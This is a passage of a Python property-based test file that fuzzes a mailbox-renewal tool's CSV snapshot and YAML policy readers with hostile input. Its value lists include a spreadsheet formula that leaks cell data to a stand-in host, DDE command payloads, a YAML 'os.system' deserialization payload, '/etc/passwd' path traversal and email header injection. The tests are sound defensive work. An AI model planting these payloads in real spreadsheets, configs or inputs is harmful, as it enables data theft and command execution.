"""Hostile input, generated: snapshots and policy files built to break the readers.

Whatever the bytes, a user must get one of these and never a traceback: a valid row read with
exactly its values, a bad row reported at its line with the field and the reason, a file that is
not a snapshot refused with a SnapshotError, a broken policy reported as `path:line: message`.
The expected line of every record is worked out here, as the file is written.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import re
import resource
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
import yaml
from click.testing import CliRunner, Result
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from renewd.cli.main import main
from renewd.cli.report import ORDER_COLUMNS, write_orders_csv
from renewd.core.errors import Problem, ProblemsError, SnapshotError
from renewd.core.facts import FACTS, FactType
from renewd.core.model import Anchor, Mailbox
from renewd.plan.evaluate import Evaluator
from renewd.policy.loader import RULE_KEYS, THEN_KEYS, TOP_KEYS, load_policy
from renewd.policy.model import Policy
from renewd.policy.when import OPS
from renewd.snapshot import blocks, slow, split
from renewd.snapshot.reader import Snapshot
from renewd.snapshot.rows import OPTIONAL, REQUIRED

from support import ROOT, TODAY

pytestmark = pytest.mark.fault

EDITIONS = frozenset({"free", "basic", "standard", "enterprise"})
HEAD_BYTES = 4096  # a file with a NUL in its first line, or many in these bytes, is binary
BOM = b"\xef\xbb\xbf"


def budget(examples: int) -> settings:
    """Fixed and derandomized, so CI sees the same examples every run and the file stays fast."""
    return settings(
        max_examples=examples,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.large_base_example,
        ],
    )


@contextmanager
def scratch() -> Iterator[Path]:
    """A fresh directory per example (pytest's tmp_path is one per test, not per example)."""
    with tempfile.TemporaryDirectory(prefix="renewd-hostile-") as name:
        yield Path(name)


def breaks(text: str) -> int:
    """Line breaks the reader counts inside a quoted value: CR LF, CR and LF (not U+2028)."""
    return len(re.findall(r"\r\n|\r|\n", text))


# --- snapshot values ----------------------------------------------------------------------------

# Bytes that are never part of valid UTF-8, written through a lone surrogate (surrogateescape).
NOT_UTF8 = ("\udcff", "\udcfe", "\udcc0")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+2",
)
ANY_CHAR = st.characters(exclude_categories=("Cs", "Co"), exclude_characters="\x00")
# What an identifier may hold: no control (Cc) or format (Cf: bidi, zero-width) character and no
# line or paragraph separator.
SAFE_CHAR = st.characters(exclude_categories=("Cs", "Cc", "Cf", "Zl", "Zp"))
INVISIBLE = [
    "\x85",
    "\u2028",
    "\ufeff",
    "\u202e",
    "\u200b",
    "\u200d",
    "\u2066",
    "\xad",
    "\U000e0041",
]


def pieces(
    chars: st.SearchStrategy[str], *extra: str, min_size: int = 0, max_size: int = 12
) -> st.SearchStrategy[str]:
    parts = st.lists(st.one_of(chars, st.sampled_from(extra)), min_size=min_size, max_size=max_size)
    return parts.map("".join)


def huge(units: tuple[str, ...]) -> st.SearchStrategy[str]:
    """10k to 100k characters: repeated so that writing and reading stay fast."""
    return st.builds(
        lambda unit, size: (unit * (size // len(unit) + 1))[:size],
        st.sampled_from(units),
        st.integers(10_000, 100_000),
    )


IDS = st.one_of(
    pieces(SAFE_CHAR, ",", '"', "'", " ", "\xa0", "\u3000", "-", "=", min_size=1),
    st.from_regex(r"mb-[0-9]{1,6}", fullmatch=True),
    st.sampled_from(FORMULAS),  # an id has no pattern: formula-looking ids are kept verbatim
)
LOCAL_PART = st.text("abcxyzABC019._%+-=!#$&'*/?^`{|}~éü中", min_size=1, max_size=20)
LABEL = st.from_regex(r"[a-z0-9](?:[a-z0-9-]{0,8}[a-z0-9])?", fullmatch=True)
DOMAINS = st.builds(
    lambda labels, tld: ".".join([*labels, tld]),
    st.lists(LABEL, min_size=1, max_size=3),
    st.from_regex(r"[a-z]{2,6}", fullmatch=True),
)
EMAILS = st.one_of(
    st.builds(lambda local, domain: f"{local}@{domain}", LOCAL_PART, DOMAINS),
    st.sampled_from(["=1+2@example.com", "+cmd@example.com"]),
)
PHONES = st.one_of(
    st.sampled_from(["+8613800138000", "+14155550123"]),
    st.from_regex(r"\+[1-9][0-9]{6,14}", fullmatch=True),
)
MONEY = st.builds(
    lambda whole, cents: whole + (f".{cents}" if cents else ""),
    st.text("0123456789", min_size=1, max_size=15),
    st.text("0123456789", max_size=6),
)
DATES = st.one_of(st.dates(), st.integers(-40, 40).map(lambda n: TODAY + timedelta(days=n)))
BOOLS = st.sampled_from(["true", "false", "1", "0", "yes", "no", "TRUE", "False", "Yes", "NO"])
NAMES = st.one_of(
    pieces(ANY_CHAR, "\r", "\n", "\r\n", ",", '"', *NOT_UTF8, *FORMULAS),
    huge(("A", "中", "a\n", "x\r\ny", '",', "\udcff")),
)
EXTRA = "display_name"  # a column the reader ignores: free text, even across lines

VALID: dict[str, st.SearchStrategy[str]] = {
    "mailbox_id": IDS,
    "account_id": IDS,
    "edition": st.sampled_from(sorted(EDITIONS)),
    "expires_on": DATES.map(date.isoformat),
    "auto_renew": BOOLS,
    "balance": MONEY,
    "renewal_fee": MONEY,
    "currency": st.text("ABCDEFGHIJKLMNOPQRSTUVWXYZ", min_size=3, max_size=3),
    "email": EMAILS,
    "renewal_months": st.one_of(
        st.just(""), st.integers(1, 120).map(str), st.integers(1, 120).map("{:03d}".format)
    ),
    "phone": st.one_of(st.just(""), PHONES),
    "locale": st.sampled_from(["", "en", "zh-CN", "en-US", "fr"]),
    "domain": st.one_of(st.just(""), DOMAINS),
    "domain_via_provider": st.one_of(st.just(""), BOOLS),
    "domain_expires_on": st.one_of(st.just(""), DATES.map(date.isoformat)),
    "anchor_day": st.one_of(
        st.just(""), st.integers(1, 31).map(str), st.integers(1, 31).map("{:02d}".format)
    ),
    EXTRA: NAMES,
}

MONEY_BROKEN = [
    "-1", "1e5", "NaN", "abc", "Infinity", "-0.00", "1,000.00", "１２.５", "٣", "12.3456789",
    "9" * 16, " 1.00", "=1+1", "@SUM(A1:A2)", "+1", "",
]  # fmt: skip
BROKEN: dict[str, list[str]] = {
    "mailbox_id": [
        *("", "mb\x00null", "mb-\udcff", "mb-\x1b[31m", "m" * 129, "mb\r\n2"),
        *(f"mb{char}1" for char in INVISIBLE),
    ],
    "account_id": ["", "acct\r\nx", "acct-\udcfe", "a\x00", *(f"{c}acct" for c in INVISIBLE)],
    "edition": ["", "premium", "Standard", "standrd", FORMULAS[0], "+cmd", "@SUM(1)", "free\n"],
    "expires_on": [
        "",
        "2026-02-30",
        "2026-13-01",
        "2026/01/01",
        "٢٠٢٦-٠١-٠١",
        "２０２６-１２-０１",
        "20261201",
        "=TODAY()",
        "0000-01-01",
        "2026-12-01 ",
        "2026-12-01\r\n",
    ],
    "auto_renew": ["", "maybe", "=TRUE()", "2", "１", "t"],
    "balance": MONEY_BROKEN,
    "renewal_fee": MONEY_BROKEN,
    "currency": ["", "usd", "US", "EURO", "=A1", "€€€"],
    "email": [
        "",
        "a@b",
        "x\r\ny@z.com",
        "a@example.com\nBcc: victim@example.org",
        "us\udcffer@example.com",
        FORMULAS[0],
        "@SUM(1+1)",
        FORMULAS[1],
        "a b@example.com",
        "a\x00@example.com",
        *(f"us{char}er@example.com" for char in INVISIBLE),
    ],
    "phone": ["12345", "+0123456789", "+8613800138000\n", "+١٢٣٤٥٦٧٨٩٠", "+1 415 555 0123", "=1+1"],
    "locale": ["EN_us", "=cmd", "zh_CN", "e", "en\r\n"],
    "domain": ["caf\udcff.example.com", FORMULAS[0], "-bad-.com", "a" * 300 + ".com", "example"],
    "renewal_months": ["0", "121", "x", "²", "١٢", "12.0", "-1"],
    "domain_via_provider": ["y", "=TRUE()", "2"],
    "domain_expires_on": ["2027-13-01", "2026-02-29", "=TODAY()", "2026-1-1"],
    "anchor_day": ["0", "32", "x", "²", "-1", "1.0", " 5"],
}
HUGE_BROKEN = huge(("A", "9", "=", "\n", "a,b", '"', "é", "\udcff"))


@dataclass
class Record:
    """One CSV record as written. `cells` is set for a record of the wrong width."""

    values: dict[str, str] = field(default_factory=dict)
    bad: str | None = None  # the field written broken; None for a valid row
    cells: list[str] | None = None
    quote_all: bool = False


BLANK = None  # an empty line between records: skipped, not a record


@dataclass
class SnapshotFile:
    columns: list[str]
    records: list[Record | None]
    newline: str
    bom: bool
    final_newline: bool


@st.composite
def valid_records(draw: st.DrawFn, columns: list[str]) -> Record:
    values = {c: draw(VALID[c]) for c in columns}
    return Record(values, quote_all=draw(st.booleans()))


@st.composite
def broken_records(draw: st.DrawFn, columns: list[str]) -> Record:
    record = draw(valid_records(columns))
    bad = draw(st.sampled_from([c for c in columns if c in BROKEN]))
    record.values[bad] = draw(st.one_of(st.sampled_from(BROKEN[bad]), HUGE_BROKEN))
    record.bad = bad
    return record


@st.composite
def nul_records(draw: st.DrawFn, columns: list[str]) -> Record:
    """A NUL byte in one field: that field is reported, or nothing at all in the ignored column."""
    record = draw(valid_records(columns))
    name = draw(st.sampled_from([c for c in columns if c in BROKEN or c == EXTRA]))
    value = record.values[name]
    at = draw(st.integers(0, len(value)))
    record.values[name] = value[:at] + "\x00" + value[at:]
    record.bad = None if name == EXTRA else name
    return record


@st.composite
def wrong_width(draw: st.DrawFn, columns: list[str]) -> Record:
    width = draw(st.integers(1, len(columns) + 3).filter(lambda n: n != len(columns)))
    cells = draw(st.lists(pieces(ANY_CHAR, "\n", ",", '"'), min_size=width, max_size=width))
    return Record(cells=cells, quote_all=draw(st.booleans()))


@st.composite
def snapshot_files(draw: st.DrawFn) -> SnapshotFile:
    optional = draw(st.lists(st.sampled_from([*OPTIONAL, EXTRA]), unique=True))
    columns = draw(st.permutations([*REQUIRED, *optional]))
    kinds = st.one_of(
        valid_records(columns),
        valid_records(columns),
        broken_records(columns),
        nul_records(columns),
        wrong_width(columns),
        st.just(BLANK),
    )
    records: list[Record | None] = draw(st.lists(kinds, min_size=1, max_size=15))
    rows = [r for r in records if r is not None and r.cells is None]
    # Some ids repeated: every copy after the first is rejected, and the caller drops the first.
    sources = [r for r in rows if r.bad != "mailbox_id"]  # a broken id would change the field
    for _ in range(draw(st.integers(0, 2)) if len(rows) > 1 and sources else 0):
        source, target = draw(st.sampled_from(sources)), draw(st.sampled_from(rows))
        if target.bad != "mailbox_id":
            target.values["mailbox_id"] = source.values["mailbox_id"]
    if any("\x00" in text for r in rows for text in r.values.values()) and draw(st.booleans()):
        # A NUL in the first 4 KiB makes the whole file "binary"; push the rows past it.
        padding = [Record(pad_row(columns, n)) for n in range(100)]
        records = [*padding, *records]
    return SnapshotFile(
        columns,
        records,
        newline=draw(st.sampled_from(["\n", "\r\n", "\r"])),
        bom=draw(st.booleans()),
        final_newline=draw(st.booleans()),
    )


def pad_row(columns: list[str], n: int) -> dict[str, str]:
    known = {
        "mailbox_id": f"pad-{n:04d}",
        "account_id": "acct-pad",
        "edition": "standard",
        "expires_on": "2030-01-01",
        "auto_renew": "false",
        "balance": "0.00",
        "renewal_fee": "120.00",
        "currency": "CNY",
        "email": f"pad-{n}@example.com",
    }
    return {c: known.get(c, "") for c in columns}


def cell(text: str, quote: bool) -> str:
    if quote or any(c in text for c in ',"\r\n'):
        return '"' + text.replace('"', '""') + '"'
    return text


def record_text(record: Record, columns: list[str]) -> tuple[str, int]:
    """The record as written and how many physical lines it spans."""
    texts = record.cells if record.cells is not None else [record.values[c] for c in columns]
    # A record of one empty field must be quoted, or it would be a blank line.
    quote = record.quote_all or texts == [""]
    return ",".join(cell(t, quote) for t in texts), 1 + sum(breaks(t) for t in texts)


@dataclass
class Expected:
    """What the reader must make of a file, worked out while writing it."""

    mailboxes: list[Mailbox] = field(default_factory=list)
    errors: list[tuple[int, str, str]] = field(default_factory=list)  # line, field, kind
    duplicates: set[str] = field(default_factory=set)
    rows_read: int = 0
    unique_valid: set[str] = field(default_factory=set)
    binary: bool = False
    conflicts: list[tuple[int, str]] = field(default_factory=list)  # line, field
    conflicting: set[str] = field(default_factory=set)


def write_snapshot(path: Path, snap: SnapshotFile) -> Expected:
    expected = Expected()
    parts = [",".join(snap.columns)]
    line = 1
    seen: set[str] = set()
    counts: dict[str, int] = {}
    valid_ids: list[str] = []
    accounts: dict[str, tuple[Decimal, str]] = {}  # balance and currency of each one's first row
    for record in snap.records:
        if record is BLANK:
            parts.append("")
            line += 1
            continue
        text, spans = record_text(record, snap.columns)
        parts.append(text)
        line += spans
        expected.rows_read += 1
        if record.cells is not None:
            expected.errors.append((line, "", f"expected {len(snap.columns)} fields"))
            continue
        mailbox_id = record.values["mailbox_id"]
        counts[mailbox_id] = counts.get(mailbox_id, 0) + 1
        if mailbox_id in seen:
            # reported as a repeat, and yielded if valid: repeats are known only at the end
            expected.duplicates.add(mailbox_id)
            expected.errors.append((line, "mailbox_id", "duplicate"))
            if record.bad is None:
                expected.mailboxes.append(mailbox_of(record.values, line))
            continue
        if mailbox_id:
            seen.add(mailbox_id)
        if record.bad is not None:
            expected.errors.append((line, record.bad, ""))
            continue
        expected.mailboxes.append(mailbox_of(record.values, line))
        valid_ids.append(mailbox_id)
        money = (Decimal(record.values["balance"]), record.values["currency"])
        first = accounts.setdefault(record.values["account_id"], money)
        if money != first:
            expected.conflicts.append((line, "currency" if money[1] != first[1] else "balance"))
            expected.conflicting.add(record.values["account_id"])
    expected.unique_valid = {i for i in valid_ids if counts[i] == 1}
    body = snap.newline.join(parts) + (snap.newline if snap.final_newline else "")
    data = (BOM if snap.bom else b"") + body.encode("utf-8", errors="surrogateescape")
    head = data[:HEAD_BYTES]
    first_line = head.removeprefix(BOM).splitlines()[:1]
    expected.binary = b"\x00" in b"".join(first_line) or head.count(b"\x00") * 8 >= len(head)
    path.write_bytes(data)
    return expected


def mailbox_of(values: dict[str, str], line: int) -> Mailbox:
    """The Mailbox a valid row stands for, straight from the text written."""

    def day(text: str) -> date | None:
        return date.fromisoformat(text) if text else None

    expires_on = day(values["expires_on"])
    assert expires_on is not None
    return Mailbox(
        mailbox_id=values["mailbox_id"],
        account_id=values["account_id"],
        edition=values["edition"],
        expires_on=expires_on,
        auto_renew=values["auto_renew"].lower() in ("true", "1", "yes"),
        balance=Decimal(values["balance"]),
        renewal_fee=Decimal(values["renewal_fee"]),
        currency=values["currency"],
        renewal_months=int(values.get("renewal_months") or 12),
        email=values["email"],
        phone=values.get("phone", ""),
        locale=values.get("locale") or "en",
        domain=values.get("domain", ""),
        domain_via_provider=values.get("domain_via_provider", "").lower() in ("true", "1", "yes"),
        domain_expires_on=day(values.get("domain_expires_on", "")),
        anchor_day=int(values["anchor_day"]) if values.get("anchor_day") else None,
        line=line,
    )


def read_all(path: Path) -> tuple[list[Mailbox], Snapshot]:
    snap = Snapshot(path, EDITIONS, "en")
    return list(snap), snap


# --- property 1: the reader ---------------------------------------------------------------------


@budget(400)
@given(snapshot_files())
def test_every_row_is_read_exactly_or_reported_at_its_line(snap_file: SnapshotFile) -> None:
    with scratch() as tmp:
        path = tmp / "snapshot.csv"
        expected = write_snapshot(path, snap_file)
        if expected.binary:
            with pytest.raises(SnapshotError, match="binary data"):
                read_all(path)
            return
        mailboxes, snap = read_all(path)
    assert mailboxes == expected.mailboxes
    for got, want in zip(mailboxes, expected.mailboxes, strict=True):
        # Decimal("1.0") == Decimal("1.00"): the digits written must survive too.
        assert (str(got.balance), str(got.renewal_fee)) == (
            str(want.balance),
            str(want.renewal_fee),
        )
    assert [(e.line, e.field) for e in snap.errors] == [(ln, f) for ln, f, _ in expected.errors]
    for error, (_, _, kind) in zip(snap.errors, expected.errors, strict=True):
        assert error.path == str(path)
        assert error.reason.strip() and kind in error.reason
        assert len(error.reason) < 200, "a hostile value must be cut short in the reason"
    assert snap.duplicates == expected.duplicates
    assert (snap.rows_read, snap.rejected) == (expected.rows_read, len(expected.errors))
    assert [(e.line, e.field) for e in snap.conflicts] == expected.conflicts
    assert snap.conflicting_accounts == expected.conflicting
    usable = {m.mailbox_id for m in mailboxes if m.mailbox_id not in snap.duplicates}
    assert usable == expected.unique_valid


@budget(300)
@given(
    snapshot_files(),
    st.integers(min_value=1, max_value=400),
    st.booleans(),
    st.sampled_from([slow.MAX_RECORD, 30_000, 200]),
)
def test_where_the_file_is_cut_changes_nothing(
    snap_file: SnapshotFile, block: int, halves: bool, limit: int
) -> None:
    """The fast way reads blocks of BLOCK characters, extended to the end of a record, and a
    big file in two processes: quoted records, CR LF pairs, bad rows, records over the length
    limit, repeated ids and accounts that disagree on either side of a cut must read as in
    one piece."""
    with scratch() as tmp, mock.patch.object(slow, "MAX_RECORD", limit):
        path = tmp / "snapshot.csv"
        if write_snapshot(path, snap_file).binary:
            return
        whole = read_all(path)
        with (
            mock.patch.object(blocks, "BLOCK", block),
            mock.patch.object(split, "PARALLEL_FROM", 0 if halves else 1 << 60),
        ):
            pieces = read_all(path)
    assert pieces[0] == whole[0]
    assert pieces[1].errors == whole[1].errors
    assert (pieces[1].duplicates, pieces[1].rejected_ids) == (
        whole[1].duplicates,
        whole[1].rejected_ids,
    )
    assert (pieces[1].conflicts, pieces[1].conflicting_accounts) == (
        whole[1].conflicts,
        whole[1].conflicting_accounts,
    )
    assert (pieces[1].rows_read, pieces[1].rejected, pieces[1].expired) == (
        whole[1].rows_read,
        whole[1].rejected,
        whole[1].expired,
    )


@budget(300)
@given(
    st.sampled_from([".csv", ".jsonl"]),
    st.binary(max_size=300),
    st.lists(st.sampled_from([b"\n", b"\r", b'"', b",", b"\x00", b"\xff", b"{", b"}"]), max_size=8),
)
def test_any_bytes_after_a_header_are_rows_or_a_snapshot_error(
    suffix: str, body: bytes, noise: list[bytes]
) -> None:
    """Files that are not snapshots at all end as SnapshotError; nothing else escapes."""
    header = ",".join(REQUIRED).encode() + b"\n" if suffix == ".csv" else b""
    with scratch() as tmp:
        path = tmp / f"s{suffix}"
        path.write_bytes(header + body + b"".join(noise))
        try:
            mailboxes, snap = read_all(path)
        except SnapshotError as exc:
            assert str(exc).startswith(str(path))
            return
    assert snap.rows_read == len(mailboxes) + snap.rejected
    assert all(e.reason and e.line >= 1 for e in snap.errors)


SMALL_HEADER = (
    "mailbox_id,account_id,edition,expires_on,auto_renew,balance,renewal_fee,currency,email,note\n"
)


def small_row(mailbox_id: str, account_id: str = "acct", note: str = "") -> str:
    return f"{mailbox_id},{account_id},standard,2026-12-04,true,500,120,CNY,{mailbox_id}@example.com,{note}\n"


def padding(rows: int = 100) -> str:
    """Valid rows enough to push what follows past the first 4 KiB (checked for binary data)."""
    return "".join(small_row(f"pad-{n:03d}") for n in range(rows))


def test_a_nul_byte_in_an_unquoted_row_still_claims_its_id(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    text = SMALL_HEADER + padding() + small_row("mb-1", "ac\x00ct") + small_row("mb-1")
    path.write_text(text, encoding="utf-8")
    _, snap = read_all(path)
    assert snap.duplicates == {"mb-1"}  # the quoted spelling of the same row gets this right
    assert [(e.line, e.field) for e in snap.errors] == [(102, "account_id"), (103, "mailbox_id")]


def test_an_oversized_field_cannot_inject_rows(tmp_path: Path) -> None:
    injected = small_row("mb-evil", "acct-evil").rstrip("\n")
    note = '"' + "x" * 140_000 + "\n" + injected + "\ntail" + '"'
    path = tmp_path / "s.csv"
    text = SMALL_HEADER + small_row("mb-1", note=note) + small_row("mb-2") + small_row("mb-3")
    path.write_text(text, encoding="utf-8")
    mailboxes, snap = read_all(path)
    assert "mb-evil" not in [m.mailbox_id for m in mailboxes]
    assert [m.mailbox_id for m in mailboxes] == ["mb-1", "mb-2", "mb-3"]  # the long note is ignored
    assert [m.line for m in mailboxes] == [4, 5, 6] and snap.errors == []


def test_a_record_over_a_mebibyte_is_rejected_whole(tmp_path: Path) -> None:
    """Too long to read: one error at the line where it ends, and none of its lines as rows."""
    injected = small_row("mb-evil", "acct-evil").rstrip("\n")
    note = '"' + "x" * 1_100_000 + "\n" + injected + "\ntail" + '"'
    path = tmp_path / "s.csv"
    text = SMALL_HEADER + small_row("mb-1", note=note) + small_row("mb-2") + small_row("mb-3")
    path.write_text(text, encoding="utf-8")
    mailboxes, snap = read_all(path)
    assert [(m.mailbox_id, m.line) for m in mailboxes] == [("mb-2", 5), ("mb-3", 6)]
    assert [(e.line, e.field) for e in snap.errors] == [(4, "")]


@pytest.mark.parametrize("column", ["note", "email"])
def test_a_lone_cr_inside_quotes_ends_a_line(tmp_path: Path, column: str) -> None:
    """The file is read with newline="": CR, LF and CR LF all end a line, inside quotes too."""
    if column == "note":
        first = small_row("mb-1", note='"a\rb"')
    else:
        first = small_row("mb-1").replace("mb-1@example.com", '"mb\r1@example.com"')
    path = tmp_path / "s.csv"
    path.write_text(SMALL_HEADER + first + small_row("mb-2"), encoding="utf-8", newline="")
    mailboxes, snap = read_all(path)
    found = [(m.mailbox_id, m.line) for m in mailboxes] + [(e.field, e.line) for e in snap.errors]
    assert sorted(found) == sorted([("mb-1" if column == "note" else "email", 3), ("mb-2", 4)])


# --- property 2: the same files through `renewd dry-run` -----------------------------------------


def cli(*args: str) -> Result:
    return CliRunner().invoke(main, list(args))


@budget(100)
@given(snapshot_files())
def test_dry_run_never_shows_a_traceback(snap_file: SnapshotFile) -> None:
    with scratch() as tmp:
        path = tmp / "snapshot.csv"
        expected = write_snapshot(path, snap_file)
        config = tmp / "config.yaml"
        config.write_text(f"rules: {ROOT / 'rules'}\n", encoding="utf-8")
        result = cli(
            "dry-run", "--config", str(config), "--snapshot", str(path),
            "--date", TODAY.isoformat(), "--format", "jsonl",
        )  # fmt: skip
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert result.exit_code in (0, 2), result.output
    if result.exit_code == 2:
        assert expected.binary and "binary data" in result.stderr
        return
    # JSON Lines ends records with "\n" only: an id may hold U+0085 or U+2028, which
    # str.splitlines() would also split on.
    records = [json.loads(line) for line in result.stdout.split("\n") if line]
    assert {r["mailbox_id"] for r in records} <= expected.unique_valid
    errors = result.stderr.splitlines()
    lines = [line for line, _, _ in expected.errors] + [line for line, _ in expected.conflicts]
    assert len(errors) == len(lines)
    for text, line in zip(errors, lines, strict=True):
        assert text.startswith(f"{path}:{line}: ")


# --- property 3: policy files, valid and broken ---------------------------------------------------


def typos(word: str) -> list[str]:
    """Near misses a person makes: a letter dropped or doubled, swapped, another case or dash."""
    return sorted(
        {
            word[:-1],
            word + "s",
            word[1] + word[0] + word[2:],
            word.replace("_", "-"),
            word.capitalize(),
            word[:2] + word[1:],
        }
        - {word, ""}
    )


def keys(real: tuple[str, ...] | list[str]) -> st.SearchStrategy[Any]:
    return st.one_of(
        st.sampled_from(list(real)),
        st.sampled_from(sorted({t for k in real for t in typos(k)})),
        st.text(max_size=6),
        st.integers(-2, 2),
    )


# Scalars PyYAML cannot construct or that a careless reader trips over, written into the YAML
# text as they are (they stand for a placeholder in the generated document).
RAW = [
    "2026-02-30", "2026-13-01", "0b_", "!!int abc", "!!float abc", "!!timestamp abc",
    "!!bool abc", "!!map [a]", "!!seq {a: 1}", "._", "'1e999999999'", ".inf", ".nan",
    "*nowhere", "&a [*a]", "!!python/object/apply:os.system [ls]", "~", "{field: [a]}",
    "{field: {a: 1}}", '"r\\n"', '"\\x01"', "99999999999999999999999999", "-0", "0o17",
    "{? [a] : b}", "!!set {a, b}", "!!binary aGVsbG8=", "2026-12-01",
]  # fmt: skip
PLACEHOLDER = re.compile(r"'?zzraw(\d+)zz'?")

JUNK = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-5, 400),
    st.integers(10**18, 10**30),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=8),
    st.integers(0, len(RAW) - 1).map("zzraw{}zz".format),
)
DAY_NUMBERS = st.one_of(st.integers(-3, 40), st.integers(3600, 3700), st.integers(10**20, 10**21))
OPERANDS = st.one_of(
    JUNK,
    DAY_NUMBERS,
    st.lists(DAY_NUMBERS, max_size=4),
    st.builds(lambda fact: {"field": fact}, keys(sorted(FACTS))),
)
MONEY_OPERANDS = [
    "1e999999999", "-1e999999999", "1e-999999999", "sNaN", "NaN", "-Infinity", 1e308, 10**30,
    "120.00", "0.0001", 7,
]  # fmt: skip
LEAVES = st.one_of(
    st.dictionaries(keys(sorted(FACTS)), OPERANDS, min_size=1, max_size=2),
    st.dictionaries(
        keys(sorted(FACTS)),
        st.dictionaries(keys(OPS), OPERANDS, min_size=1, max_size=2),
        max_size=2,
    ),
    st.builds(lambda d: {"days_to_expiry": d}, DAY_NUMBERS),
    st.builds(lambda d: {"days_since_expiry": {"in": d}}, st.lists(DAY_NUMBERS, max_size=4)),
    st.builds(
        lambda a, b: {"domain_days_to_expiry": {"between": [a, b]}}, DAY_NUMBERS, DAY_NUMBERS
    ),
    st.sampled_from([{"is_paid": True}, {"auto_renew": False}, {"edition": "standard"}]),
    st.builds(
        lambda fact, op, amount: {fact: {op: amount}},
        st.sampled_from(["balance", "renewal_fee"]),
        st.sampled_from(OPS),
        st.sampled_from(MONEY_OPERANDS),
    ),
)
CONDITIONS = st.recursive(
    LEAVES,
    lambda inner: st.one_of(
        st.builds(lambda items: {"all": items}, st.lists(inner, max_size=3)),
        st.builds(lambda items: {"any": items}, st.lists(inner, max_size=3)),
        st.builds(lambda item: {"not": item}, inner),
        st.lists(inner, max_size=3),
    ),
    max_leaves=8,
)
CHANNELS = st.one_of(
    st.sampled_from([["email"], ["sms"], ["email", "sms"], "email"]),
    st.lists(keys(["email", "sms"]), max_size=2),
    JUNK,
)
RULE_IDS = st.one_of(
    st.from_regex(r"[a-z0-9][a-z0-9-]{0,10}", fullmatch=True), keys(["expired", "r-1"]), JUNK
)
THENS = st.one_of(
    st.fixed_dictionaries(
        {},
        optional={
            "notify": CHANNELS,
            "template": st.one_of(st.sampled_from(["expired", "renewal-reminder"]), JUNK),
            "deduct": st.one_of(st.booleans(), JUNK),
            "delete": st.one_of(st.booleans(), JUNK),
        },
    ),
    st.dictionaries(keys(THEN_KEYS), JUNK, max_size=3),
    JUNK,
)
RULES = st.fixed_dictionaries(
    {"id": RULE_IDS, "when": CONDITIONS, "then": THENS},
    optional={
        "group": st.one_of(st.just("g"), JUNK),
        "priority": st.one_of(st.integers(0, 3), JUNK),
    },
)
RULE_ITEMS = st.one_of(RULES, st.dictionaries(keys(RULE_KEYS), JUNK, max_size=3), JUNK)
SECTION_NAMES = [
    "renewal_reminder", "low_balance_warning", "auto_renew", "auto_renew_failed", "expired",
    "grace_reminder", "deletion", "domain_expiry",
]  # fmt: skip
SECTIONS = st.one_of(
    st.fixed_dictionaries(
        {},
        optional={
            "days_before": st.one_of(DAY_NUMBERS, st.lists(DAY_NUMBERS, max_size=3), JUNK),
            "days_after": st.one_of(DAY_NUMBERS, st.lists(DAY_NUMBERS, max_size=3), JUNK),
            "notify": CHANNELS,
            "template": st.one_of(st.sampled_from(["expired", "../../etc"]), JUNK),
        },
    ),
    JUNK,
)
NAMES_LIST = st.one_of(
    st.lists(st.one_of(st.sampled_from(sorted(EDITIONS)), JUNK), max_size=3), JUNK
)
TOP = st.fixed_dictionaries(
    {},
    optional={
        "timezone": st.one_of(
            st.sampled_from(
                ["UTC", "Asia/Shanghai", "Mars/Olympus", "America", "../../etc/passwd"]
            ),
            JUNK,
        ),
        "editions": st.one_of(
            st.fixed_dictionaries({}, optional={"paid": NAMES_LIST, "free": NAMES_LIST}), JUNK
        ),
        "lifecycle": st.one_of(st.dictionaries(keys(SECTION_NAMES), SECTIONS, max_size=4), JUNK),
        "rules": st.one_of(st.lists(RULE_ITEMS, max_size=3), RULE_ITEMS),
    },
)
SHIPPED = yaml.safe_load((ROOT / "rules" / "lifecycle.yaml").read_text(encoding="utf-8"))
GOOD_RULE = {
    "id": "custom",
    "when": {"all": [{"days_to_expiry": {"in": [10, 20]}}, {"not": {"is_paid": False}}]},
    "then": {"notify": ["email"], "template": "renewal-reminder"},
    "group": "extra",
    "priority": 1,
}


def containers(node: Any) -> list[Any]:
    """Every mapping and list in a document, the document first."""
    found: list[Any] = []
    if isinstance(node, dict | list):
        found.append(node)
        for child in node.values() if isinstance(node, dict) else node:
            found.extend(containers(child))
    return found


@st.composite
def near_misses(draw: st.DrawFn) -> Any:
    """The shipped policy plus a generic rule, with up to three slips a person could make."""
    document = copy.deepcopy({**SHIPPED, "rules": [GOOD_RULE]})
    if draw(st.booleans()):  # a condition of any shape in an otherwise good rule
        document["rules"][0]["when"] = {"all": [{"days_to_expiry": 3}, draw(CONDITIONS)]}
    for _ in range(draw(st.integers(0, 3))):
        target = draw(st.sampled_from(containers(document)))
        if isinstance(target, dict) and target:
            key = draw(st.sampled_from(list(target)))
            slip = draw(st.sampled_from(["typo", "junk", "drop", "listify"]))
            if slip == "typo" and isinstance(key, str) and len(key) > 1:
                target[draw(st.sampled_from(typos(key)))] = target.pop(key)
            elif slip == "drop":
                del target[key]
            elif slip == "listify":
                target[key] = [target[key]]
            else:
                target[key] = draw(OPERANDS)
        elif isinstance(target, list) and target:
            at = draw(st.integers(0, len(target) - 1))
            target[at] = draw(st.one_of(OPERANDS, st.just(copy.deepcopy(target[at]))))
    return document


DOCUMENTS = st.one_of(
    near_misses(),
    near_misses(),
    TOP,
    st.builds(lambda top, extra: {**extra, **top}, TOP, st.dictionaries(keys(TOP_KEYS), JUNK)),
    st.lists(TOP, max_size=2),  # a list where a mapping belongs
    JUNK,
)


def dump(document: Any, flow: bool, width: int) -> str:
    text = yaml.safe_dump(
        document, default_flow_style=flow, sort_keys=False, allow_unicode=True, width=width
    )
